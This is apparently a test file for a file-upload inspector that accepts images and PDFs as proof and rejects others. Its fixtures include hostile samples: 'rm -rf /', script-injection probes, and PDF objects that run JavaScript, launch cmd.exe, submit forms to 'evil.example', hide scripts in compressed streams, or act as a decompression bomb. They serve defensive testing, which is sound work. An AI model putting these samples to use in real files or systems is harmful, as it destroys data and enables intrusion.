import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { inspectFile } from './inspect-file.ts';

const bytes = (text: string): Uint8Array => Buffer.from(text, 'latin1');
const hex = (text: string): Uint8Array => Buffer.from(text.replace(/\s/g, ''), 'hex');

const PNG = hex(
  '89504e470d0a1a0a 0000000d49484452000000010000000108060000001f15c489 0000000d49444154789c6360000002000001e221bc33 0000000049454e44ae426082',
);
const JPEG = hex('ffd8ffe000104a46494600010100000100010000 ffd9');
const HEIC = hex('00000018 66747970 68656963 00000000 68656963 6d696631');

/** A small document, with what is put between its objects. */
const pdf = (...objects: readonly string[]): Uint8Array =>
  bytes(
    [
      '%PDF-1.7',
      '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj',
      ...objects,
      'trailer<</Root 1 0 R>>',
      '%%EOF',
    ].join('\n'),
  );
const packed = (dictionary: string, content: string): string => {
  const data = deflateSync(Buffer.from(content, 'latin1')).toString('latin1');
  return `9 0 obj<<${dictionary}/Length ${data.length}>>stream\r\n${data}\nendstream endobj`;
};

test.each([
  ['a photograph', JPEG, 'image/jpeg'],
  ['a picture of a screen', PNG, 'image/png'],
  ['a photograph of an iPhone', HEIC, 'image/heic'],
  ['a document', pdf(), 'application/pdf'],
])('%s is a proof', async (_, file, type) => {
  expect(await inspectFile(file)).toEqual({
    is: 'proof',
    type,
    sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
  });
});

test.each([
  ['a page', bytes('<!doctype html><script>alert(1)</script>')],
  ['a drawing with a script', bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['a script', bytes('#!/bin/sh\nrm -rf /')],
  ['a program', hex('4d5a90000300000004000000ffff0000')],
  ['an archive', hex('504b0304140000000000')],
  ['a moving picture', bytes('GIF89a')],
  ['a page that begins like a document later on', bytes(`<html>${' '.repeat(2_000)}%PDF-1.7`)],
  ['a word', bytes('hallo')],
])('%s is none, whatever it is called', async (_, file) => {
  expect(await inspectFile(file)).toEqual({ is: 'other' });
});

describe('a document that', () => {
  test.each([
    ['runs JavaScript', pdf('3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj')],
    ['runs it under another spelling', pdf('3 0 obj<</S/J#61v#61Script/JS(x)>>endobj')],
    ['starts a program', pdf('3 0 obj<</S/Launch/F(cmd.exe)>>endobj')],
    ['sends a form', pdf('3 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj')],
    ['is encrypted', pdf('trailer<</Encrypt 5 0 R>>')],
    [
      'packs its script away',
      pdf(packed('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', '3 0 <</S /JavaScript>>')),
    ],
    ['packs it under another name', pdf(packed('/Filter/FlateDecode', '3 0 <</S /JavaScript>>'))],
    [
      'packs objects so that nobody can look',
      pdf('9 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\nxx\nendstream endobj'),
    ],
    [
      'packs objects behind a predictor',
      pdf(packed('/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>', '3 0 <<>>')),
    ],
    ['is a bomb', pdf(packed('/Filter/FlateDecode', '0'.repeat(70 * 1024 * 1024)))],
  ])('%s is unsafe', async (_, file) => {
    expect(await inspectFile(file)).toEqual({ is: 'unsafe' });
  });

  test.each([
    ['opens at a page', pdf('3 0 obj<</OpenAction[2 0 R/Fit]>>endobj')],
    ['links to a site', pdf('3 0 obj<</S/URI/URI(https://bank.example)>>endobj')],
    [
      'has packed text and objects',
      pdf(
        packed('/Filter/FlateDecode', 'BT (betaald) Tj ET'),
        packed('/Type/ObjStm/Filter/FlateDecode', '3 0 <</Type/Font>>'),
      ),
    ],
    ['has a packed part that is broken', pdf('9 0 obj<</Filter/FlateDecode>>stream\nxx\nendstream endobj')],
  ])('%s is a proof', async (_, file) => {
    expect(await inspectFile(file)).toMatchObject({ is: 'proof' });
  });
});
